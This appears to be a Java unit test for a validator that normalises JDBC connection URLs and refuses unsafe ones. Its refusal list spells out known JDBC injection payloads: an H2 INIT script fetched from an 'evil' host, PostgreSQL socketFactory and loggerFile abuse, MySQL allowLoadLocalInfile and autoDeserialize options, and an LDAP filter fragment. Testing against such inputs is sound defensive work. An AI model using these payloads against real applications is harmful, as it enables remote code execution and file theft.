package io.kustomersync.settings;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

  private static final Path HOME = Path.of("/opt/sync");

  @Test
  void anAddressIsShownAsItWasWritten() throws Exception {
    for (String written : List.of("osgi:warehouse", "jdbc:h2:file:/x/y")) {
      assertThat(JdbcUrl.shown(JdbcUrl.check(written, HOME))).isEqualTo(written);
    }
  }

  @ParameterizedTest
  @CsvSource({
    "jdbc:h2:file:data/k, jdbc:h2:file:/opt/sync/data/k;TRACE_LEVEL_FILE=0",
    "jdbc:h2:./data/k;AUTO_SERVER=TRUE,"
        + " jdbc:h2:file:/opt/sync/data/k;AUTO_SERVER=TRUE;TRACE_LEVEL_FILE=0",
    "jdbc:h2:/var/k, jdbc:h2:file:/var/k;TRACE_LEVEL_FILE=0",
    "jdbc:h2:file:/srv/me@corp/k, jdbc:h2:file:/srv/me@corp/k;TRACE_LEVEL_FILE=0",
    "jdbc:h2:~/k, jdbc:h2:file:~/k;TRACE_LEVEL_FILE=0",
    "JDBC:H2:mem:k;DB_CLOSE_DELAY=-1, jdbc:h2:mem:k;DB_CLOSE_DELAY=-1",
    "jdbc:postgresql://db:5432/k?sslmode=verify-full,"
        + " jdbc:postgresql://db:5432/k?sslmode=verify-full",
    "jdbc:mariadb://db/k?sslMode=verify-full, jdbc:mariadb://db/k?sslMode=verify-full",
    "jdbc:mysql://[::1]:3306/k, jdbc:mysql://[::1]:3306/k",
    "osgi:jdbc/warehouse, jdbc:osgi:jdbc/warehouse"
  })
  void takesTheDatabasesWeKnow(String url, String used) throws Refusal {
    assertThat(JdbcUrl.check(url, HOME)).isEqualTo(used);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:k;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:k;init=create alias x",
        "jdbc:h2:mem:k; INIT=x",
        "jdbc:h2:mem:k;AUTO_SERVER=TRUE\\;INIT=x",
        "jdbc:h2:mem:k;TRACE_LEVEL_FILE=3",
        "jdbc:h2:mem:k;DATABASE_EVENT_LISTENER='evil.Class'",
        "jdbc:h2:mem:k;AUTHENTICATOR=x",
        "jdbc:h2:tcp://evil/k",
        "jdbc:h2:ssl://evil/k",
        "jdbc:h2:zip:~/a.zip!/k",
        "jdbc:h2:file:zip:~/a.zip!/k",
        "jdbc:h2:classpath:k",
        "jdbc:h2:",
        "osgi:x)(objectClass=*",
        "jdbc:h2:mem:k;USER=sa;PASSWORD=p",
        "jdbc:postgresql://db/k?socketFactory=org.x.Y&socketFactoryArg=http://evil",
        "jdbc:postgresql://db/k?SSLFACTORY=org.x.Y",
        "jdbc:postgresql://db/k?%73ocketFactory=org.x.Y",
        "jdbc:postgresql://db/k?loggerLevel=TRACE&loggerFile=/etc/x",
        "jdbc:postgresql://db/k?ssl=true&jaasLogin=true",
        "jdbc:postgresql://db/k?password=p",
        "jdbc:postgresql:k?socketFactory=x",
        "jdbc:mysql://db/k?allowLoadLocalInfile=true",
        "jdbc:mysql://db/k?autoDeserialize=true&queryInterceptors=x",
        "jdbc:mysql://(host=db,allowLoadLocalInfile=true)/k",
        "jdbc:mysql://address=(host=db)(autoDeserialize=true)/k",
        "jdbc:mysql:replication://db/k",
        "jdbc:mysql://me:pw@db/k",
        "jdbc:mysql://db/k#x?autoDeserialize=true",
        "jdbc:mariadb://db/k?localSocketAddress=/x",
        "jdbc:mariadb://db/k?credentialType=x",
        "jdbc:oracle:thin:@db",
        "jdbc:derby:k;create=true",
        "ldap://evil/x",
        "jdbc:postgresql://db/k\n?socketFactory=x",
        ""
      })
  void refusesWhatCouldRunCodeReadFilesOrShowAPassword(String url) {
    assertThatThrownBy(() -> JdbcUrl.check(url, HOME)).isInstanceOf(Refusal.class);
  }

  @Test
  void namesTheRefusedParameterAndTheSafeOnes() {
    assertThatThrownBy(() -> JdbcUrl.check("jdbc:h2:mem:k;Init=x", HOME))
        .hasMessage(
            "has the parameter \"Init\", which is not among the safe ones; remove it (allowed:"
                + " access_mode_data, auto_server, auto_server_port, cache_size, compress,"
                + " db_close_delay, db_close_on_exit, ifexists, lock_timeout)");
  }
}
